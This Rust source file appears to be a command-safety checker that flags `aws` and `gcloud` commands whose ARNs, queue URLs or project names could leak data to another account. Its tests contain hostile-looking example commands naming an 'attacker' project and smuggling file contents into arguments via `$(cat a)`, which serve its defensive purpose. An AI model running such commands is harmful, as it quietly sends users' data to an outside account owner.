//! Readers of clouds of which a word names somebody's account or project: `arn:aws:sns:REGION:ACCOUNT:TOPIC`,
//! `projects/PROJECT/topics/TOPIC`. Its owner may hear what else stands in that word, as the owner of a bucket does: so it
//! must stand in the command, nothing is read beside it, and the account counts as a host.

use super::judge::Judge;
use super::word::{Piece, Word};

/// Flags of `aws` whose value may name a thing of another account, where the table takes any text for it.
const OF_AWS: [&str; 8] = [
    "--topic-arn",
    "--function-name",
    "--key-id",
    "--policy-arn",
    "--policy-source-arn",
    "--caller-arn",
    "--secret-id",
    "--queue-url",
];
/// Flags of `gcloud` whose value says how an answer looks, or picks among what was answered.
const OF_GCLOUD: [&str; 12] = [
    "--format",
    "--filter",
    "--limit",
    "--page-size",
    "--sort-by",
    "--flatten",
    "--freshness",
    "--order",
    "--severity",
    "--start-time",
    "--end-time",
    "--verbosity",
];
/// What stands before the name of a project, or of what projects are in.
const BEFORE: [&str; 4] = ["projects/", "organizations/", "folders/", "billingAccounts/"];
/// Verbs of `gcloud projects` behind which a project stands.
const PROJECTS: [&str; 2] = ["gcloud projects describe", "gcloud projects get-iam-policy"];

impl Judge<'_> {
    /// Notes whose account or project a reader's words name, and objects to such a word that doesn't stand in the command.
    pub(super) fn exposes_owners(&mut self, reader: &str, words: &[Word]) {
        let (named, end): (Vec<_>, _) = if reader.starts_with("aws ") {
            (words_of(words, of_aws), "amazonaws.com")
        } else if reader.starts_with("gcloud ") {
            let projects = PROJECTS.contains(&reader);
            (words_of(words, |flag, word| of_gcloud(projects, flag, word)), "googleapis.com")
        } else {
            return;
        };
        for (word, owners) in named {
            self.exposed = true;
            if word.pieces().iter().any(|piece| !matches!(piece, Piece::Exact(_))) {
                self.ineligible = true;
                let sentence = format!(
                    "What `{reader}` sends in {} doesn't stand in the command, and may name anybody's account.",
                    self.spelt(word)
                );
                self.about(word, |judge| judge.unknown("command.sends", sentence));
            }
            self.hosts.extend(owners.into_iter().map(|owner| format!("{}.{end}:443", owner.to_ascii_lowercase())));
        }
    }
}

/// The words that name an owner, each with those that it names, by what says it of a word, behind a flag or alone.
fn words_of(words: &[Word], owners: impl Fn(&str, &Word) -> Option<Vec<String>>) -> Vec<(&Word, Vec<String>)> {
    let mut found = Vec::new();
    let mut flag = String::new();
    for word in words {
        let head = word.prefix();
        let (own, value) = match head.split_once('=').filter(|_| head.starts_with("--")) {
            Some((own, _)) => (own.to_owned(), word.after(own.len() + 1)),
            None if head.starts_with("--") => {
                head.clone_into(&mut flag);
                continue;
            }
            None => (std::mem::take(&mut flag), word.clone()),
        };
        found.extend(owners(&own, &value).map(|owners| (word, owners)));
    }
    found
}

/// The accounts that a word of `aws` names by an ARN or the address of a queue.
fn of_aws(flag: &str, word: &Word) -> Option<Vec<String>> {
    let known: String = word.pattern();
    // Picked from the answer, here.
    if flag == "--query" || flag == "--output" {
        return None;
    }
    let mut owners = Vec::new();
    for (at, _) in known.match_indices("arn:") {
        let mut parts = known[at..].splitn(6, ':').skip(4);
        let (account, thing) = (parts.next().unwrap_or_default(), parts.next().unwrap_or_default());
        // Of buckets the name alone tells whose they are; what is of AWS itself is nobody else's.
        match account {
            "aws" => {}
            "" => owners.extend(thing.split('/').next().map(str::to_owned)),
            account => owners.push(account.to_owned()),
        }
    }
    let queue = known.strip_prefix("https://sqs.").and_then(|rest| rest.split('/').nth(1));
    owners.extend(queue.map(str::to_owned));
    let vague = word.text().is_none() && (OF_AWS.contains(&flag) || known.contains("arn"));
    owners.retain(|owner| !owner.is_empty());
    (vague || !owners.is_empty()).then_some(owners)
}

/// The projects that a word of `gcloud` names, of which some take one alone.
fn of_gcloud(projects: bool, flag: &str, word: &Word) -> Option<Vec<String>> {
    let known = word.pattern();
    if OF_GCLOUD.contains(&flag) {
        return None;
    }
    let name = |text: &str| {
        let end = text.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':')));
        text[..end.unwrap_or(text.len())].to_owned()
    };
    let behind = |before: &str| known.match_indices(before).map(|(at, _)| name(&known[at + before.len()..])).collect();
    let mut owners: Vec<String> = BEFORE.iter().flat_map(|before| -> Vec<String> { behind(before) }).collect();
    // A service account says by its address which project it is of.
    let account = known.strip_suffix(".gserviceaccount.com").and_then(|text| text.rsplit_once('@'));
    owners.extend(account.map(|(_, project)| name(project.trim_end_matches(".iam"))));
    let alone = ["--project", "--organization", "--folder", "--billing-account"].contains(&flag)
        || projects && flag.is_empty() && !["projects", "describe", "get-iam-policy"].contains(&known.as_str());
    if alone && owners.is_empty() {
        owners.push(name(&known));
    }
    let vague = word.text().is_none();
    owners.retain(|owner| !owner.is_empty());
    (vague || !owners.is_empty()).then_some(owners)
}

#[cfg(test)]
mod tests {
    use super::super::tests::{asks, judged};
    use crate::domain::Class;

    #[test]
    fn an_account_or_project_that_is_named_counts_as_a_host() {
        for (command, host) in [
            (
                "aws sns get-topic-attributes --topic-arn arn:aws:sns:us-east-1:123456789012:DATA",
                "123456789012.amazonaws.com:443",
            ),
            (
                "aws sns get-topic-attributes --topic-arn=arn:aws:sns:us-east-1:123456789012:DATA",
                "123456789012.amazonaws.com:443",
            ),
            (
                "aws kms describe-key --key-id arn:aws:kms:us-east-1:123456789012:alias/DATA",
                "123456789012.amazonaws.com:443",
            ),
            ("aws iam get-policy --policy-arn arn:aws:iam::123456789012:policy/DATA", "123456789012.amazonaws.com:443"),
            ("aws elbv2 describe-tags --resource-arns arn:aws:x:r:1:a/b", "1.amazonaws.com:443"),
            ("aws ec2 describe-images --filters Name=x,Values=arn:aws:s3:::bucket/DATA", "bucket.amazonaws.com:443"),
            (
                "aws sqs get-queue-attributes --queue-url https://sqs.us-east-1.amazonaws.com/123456789012/DATA",
                "123456789012.amazonaws.com:443",
            ),
            ("gcloud pubsub topics describe projects/attacker/topics/DATA", "attacker.googleapis.com:443"),
            ("gcloud compute disks describe DATA --project attacker", "attacker.googleapis.com:443"),
            ("gcloud --project=attacker compute disks describe DATA", "attacker.googleapis.com:443"),
            ("gcloud projects describe attacker-DATA", "attacker-data.googleapis.com:443"),
            (
                "gcloud iam service-accounts describe DATA@attacker.iam.gserviceaccount.com",
                "attacker.googleapis.com:443",
            ),
        ] {
            let assessment = judged(command);
            assert_eq!(assessment.class(), Class::Whitelisted, "{command}");
            assert!(
                assessment.hosts.len() == 1 && assessment.hosts.contains(host),
                "{command}: {:?}",
                assessment.hosts
            );
        }
        for command in [
            "aws iam get-policy --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess",
            "aws ec2 describe-instances --query 'a[?arn==`arn:aws:x:r:1:a`]'",
            "aws iam get-role --role-name x",
            "gcloud compute instances list --format 'value(name)' --filter 'name:projects/x'",
            "gcloud projects list",
            "ls; gcloud projects list",
        ] {
            let assessment = judged(command);
            assert_eq!(assessment.class(), Class::Whitelisted, "{command}");
            assert!(assessment.hosts.is_empty(), "{command}: {:?}", assessment.hosts);
        }
    }

    #[test]
    fn what_somebody_else_would_hear_stands_in_the_command() {
        for command in [
            "aws sns get-topic-attributes --topic-arn \"arn:aws:sns:us-east-1:1:$x\"",
            "aws sns get-topic-attributes --topic-arn $x",
            "aws kms get-key-policy --key-id \"$(cat a)\" --policy-name default",
            "aws lambda get-policy --function-name $(wc -l < a)",
            "gcloud compute disks describe d --project \"$(cat a)\"",
            "gcloud pubsub subscriptions list --topic=\"projects/attacker/topics/$x\"",
            "gcloud container node-pools list --cluster=$x",
            "cat a; aws sns get-topic-attributes --topic-arn arn:aws:sns:us-east-1:1:t",
            "cat a; gcloud projects describe p",
        ] {
            asks(command);
        }
    }
}
